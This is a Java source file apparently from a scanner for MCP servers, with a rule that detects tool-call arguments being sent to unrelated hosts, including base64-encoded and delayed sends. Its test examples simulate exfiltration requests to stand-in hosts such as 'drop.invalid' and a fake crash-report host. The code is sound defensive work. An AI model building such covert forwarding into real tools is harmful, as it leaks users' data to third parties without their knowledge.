package io.mcpsf.judge;

import io.mcpsf.model.Confidence;
import io.mcpsf.model.Finding;
import io.mcpsf.model.NetworkObservation.FlowOpened;
import io.mcpsf.model.NetworkObservation.RequestSent;
import io.mcpsf.model.Phase;
import io.mcpsf.model.ProtocolObservation.Greeted;
import io.mcpsf.model.ProtocolObservation.ToolCalled;
import io.mcpsf.model.ProtocolObservation.ToolListed;
import io.mcpsf.model.Seen;
import io.mcpsf.model.Sense;
import io.mcpsf.model.Severity;

import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;

/**
 * What a call was given went to somebody who has nothing to do with it. A tool that asks one
 * service is made for it, whatever it is called; a copy for a second one that nobody named is not
 * needed by anybody.
 */
final class ArgumentStrays implements Rule {

    /** Longer after a call than this, a text was kept and sent. */
    private static final long KEPT_MICROS = 3_000_000;

    private static final Pattern STAYS =
            Baits.words(
                    "offline|on-device|never leaves|no network|no internet|nothing leaves"
                            + "|stays on your (?:machine|computer|device)");

    private static final About ABOUT =
            About.malice("argument-strays", Family.NETWORK, Severity.MEDIUM, Confidence.LIKELY)
                    .needs(Sense.NETWORK, Sense.PROTOCOL)
                    .attack("T1041", "T1567")
                    .cwe("CWE-359")
                    .owaspMcp("MCP10")
                    .says(
                            "Sends what a call was given to an unrelated host",
                            "The text of a call's arguments was found, plain or encoded, in a"
                                + " request to a host that neither the call nor the server names,"
                                + " beside the host that does the work. HIGH when this happens to"
                                + " several tools, when the tool's name goes with it, when the text"
                                + " is sent long after the call, or when the server promises to"
                                + " work offline. Known telemetry hosts are spared. One unnamed"
                                + " host alone is the service that the tool is made for.",
                            "Assume that everything given to its tools is read by this host.");

    @Override
    public About about() {
        return ABOUT;
    }

    /** A request that carries text of a call. */
    private record Carried(Seen seen, RequestSent request, String host, boolean known) {}

    @Override
    public List<Finding> judge(Trail trail) {
        Map<Integer, Map<String, Carried>> calls = new LinkedHashMap<>();
        var claims = new Claims(info(), trail);
        for (Seen seen : trail.seen(RequestSent.class)) {
            var request = (RequestSent) seen.what();
            if (seen.at().phase() == Phase.INSTALL || Telemetry.is(trail, seen)) {
                continue;
            }
            String host = Hosts.of(request.url());
            var carried = new Carried(seen, request, host, known(trail, seen, host));
            if (seen.at().call() == 0) {
                kept(trail, claims, carried);
            } else if (carries(request, trail.asked(seen.at()).texts())) {
                calls.computeIfAbsent(seen.at().call(), _ -> new LinkedHashMap<>())
                        .putIfAbsent(Hosts.label(host), carried);
            }
        }
        beside(trail, claims, calls);
        return claims.findings();
    }

    private static boolean known(Trail trail, Seen seen, String host) {
        return trail.asked(seen.at()).host(host) || Strangers.named(trail, host);
    }

    /** A copy for a stranger beside the host that was meant. */
    private static void beside(
            Trail trail, Claims claims, Map<Integer, Map<String, Carried>> calls) {
        boolean promised = promised(trail);
        Map<String, List<Carried>> strays = new HashMap<>();
        calls.values()
                .forEach(
                        hosts -> {
                            boolean meant = hosts.values().stream().anyMatch(Carried::known);
                            hosts.forEach(
                                    (label, one) -> {
                                        if (!one.known() && (meant || promised)) {
                                            strays.computeIfAbsent(label, _ -> new ArrayList<>())
                                                    .add(one);
                                        }
                                    });
                        });
        strays.forEach(
                (label, copies) -> {
                    Set<String> tools = new TreeSet<>();
                    copies.forEach(one -> tools.add(trail.tool(one.seen().at())));
                    boolean told = copies.stream().anyMatch(one -> tells(trail, one));
                    claims.add(
                            label,
                            "What %s was given went to %s%s."
                                    .formatted(
                                            Message.list(tools, 3),
                                            Message.cut(copies.getFirst().host()),
                                            promised
                                                    ? ", though the server promises that nothing"
                                                            + " leaves"
                                                    : ", too"),
                            tools.size() > 1 || told || promised ? Severity.HIGH : Severity.MEDIUM,
                            Confidence.LIKELY,
                            copies.stream().map(Carried::seen).toList());
                });
    }

    /** The name of the tool stands beside the text: somebody keeps a record of the calls. */
    private static boolean tells(Trail trail, Carried one) {
        String tool = trail.tool(one.seen().at()).toLowerCase(Locale.ROOT);
        return tool.length() > 5
                && (tool.contains("_") || tool.contains("-"))
                && Spelled.out(text(one.request())).contains(tool);
    }

    private static void kept(Trail trail, Claims claims, Carried one) {
        List<String> texts = new ArrayList<>();
        for (var call : trail.all(ToolCalled.class)) {
            if (one.seen().at().micros() - call.at().micros() > KEPT_MICROS
                    && one.seen().seq() > call.at().seq()) {
                texts.addAll(ExplainedByCall.during(call.what().arguments()).texts());
            }
        }
        if (!one.known() && carries(one.request(), texts)) {
            claims.add(
                    Hosts.label(one.host()),
                    "What earlier calls were given went to %s when no call was in progress."
                            .formatted(Message.cut(one.host())),
                    Severity.HIGH,
                    Confidence.LIKELY,
                    List.of(one.seen()));
        }
    }

    private static boolean promised(Trail trail) {
        return trail.all(Greeted.class).stream()
                        .anyMatch(g -> says(g.what().name() + " " + g.what().instructions()))
                || trail.all(ToolListed.class).stream().anyMatch(t -> says(t.what().description()));
    }

    private static boolean says(String hostile) {
        return STAYS.matcher(Message.cut(hostile, ValueCheck.MAX_TEXT)).find();
    }

    private static boolean carries(RequestSent request, List<String> texts) {
        if (texts.isEmpty()) {
            return false;
        }
        String spelled = Spelled.out(text(request));
        return texts.stream().anyMatch(spelled::contains);
    }

    private static String text(RequestSent request) {
        return request.url() + "\n" + request.headers() + "\n" + request.body();
    }

    @Override
    public List<Example> examples() {
        return List.of(
                Example.fires(
                        "a copy for somebody, of two tools",
                        new Story()
                                .sees(server("notion", ""))
                                .calls(1, "search", QUERY)
                                .sees(get("https://api.notion.com/?q=quarterly+report"))
                                .sees(post("https://drop.invalid/", "q=quarterly report"))
                                .calls(2, "create", QUERY)
                                .sees(post("https://api.notion.com/", "quarterly report"))
                                .sees(post("https://drop.invalid/", "cXVhcnRlcmx5IHJlcG9ydA=="))),
                Example.fires(
                        "with the name of the tool",
                        new Story()
                                .sees(server("notion", ""))
                                .calls(1, "search_pages", QUERY)
                                .sees(get("https://api.notion.com/?q=quarterly+report"))
                                .sees(
                                        post(
                                                "https://drop.invalid/",
                                                "search_pages quarterly report"))),
                Example.fires(
                        "though it promises to stay offline",
                        new Story()
                                .sees(server("words", "Works offline."))
                                .calls(1, "count", QUERY)
                                .sees(post("https://drop.invalid/", "quarterly report"))),
                Example.fires(
                        "kept and sent later",
                        new Story()
                                .calls(1, "count", QUERY)
                                .in(Phase.IDLE)
                                .later(9)
                                .sees(post("https://drop.invalid/", "quarterly report"))),
                Example.spares(
                        "the one service that it is made for",
                        new Story()
                                .calls(1, "search", QUERY)
                                .sees(get("https://api.find.invalid/?q=quarterly+report"))),
                Example.spares(
                        "several services, all of which it names",
                        new Story()
                                .sees(server("papers", "Searches Arxiv and Crossref."))
                                .calls(1, "search", QUERY)
                                .sees(get("https://export.arxiv.org/?q=quarterly+report"))
                                .sees(get("https://api.crossref.org/?q=quarterly+report"))),
                Example.spares(
                        "several services, none of which it names",
                        new Story()
                                .calls(1, "search", QUERY)
                                .sees(get("https://one.invalid/?q=quarterly+report"))
                                .sees(get("https://other.example/?q=quarterly+report"))),
                Example.spares(
                        "crash reports",
                        new Story()
                                .sees(server("notion", ""))
                                .calls(1, "search_pages", QUERY)
                                .sees(get("https://api.notion.com/?q=quarterly+report"))
                                .sees(
                                        new FlowOpened(
                                                "tcp",
                                                "203.0.113.7",
                                                443,
                                                "o1.ingest.sentry.io",
                                                40_000))
                                .sees(post("https://o1.ingest.sentry.io/", "quarterly report"))),
                Example.fires(
                        "to a host that only calls itself crash reports",
                        new Story()
                                .sees(server("notion", ""))
                                .calls(1, "search_pages", QUERY)
                                .sees(get("https://api.notion.com/?q=quarterly+report"))
                                .sees(post("https://sentry.drop.invalid/", "quarterly report"))),
                Example.spares(
                        "the host that the call named",
                        new Story()
                                .sees(server("notion", ""))
                                .calls(
                                        1,
                                        "send",
                                        "{\"hook\":\"https://drop.invalid/\",\"text\":\"quarterly"
                                                + " report\"}")
                                .sees(get("https://api.notion.com/?q=quarterly+report"))
                                .sees(post("https://drop.invalid/", "quarterly report"))));
    }

    private static final String QUERY = "{\"query\":\"quarterly report\"}";

    private static Greeted server(String name, String instructions) {
        return new Greeted("2025-06-18", name, "1.0.0", instructions);
    }

    private static RequestSent get(String url) {
        return new RequestSent("HTTP/1.1", "GET", url, "", 0, "", true);
    }

    private static RequestSent post(String url, String body) {
        return new RequestSent("HTTP/1.1", "POST", url, "", body.length(), body, true);
    }
}
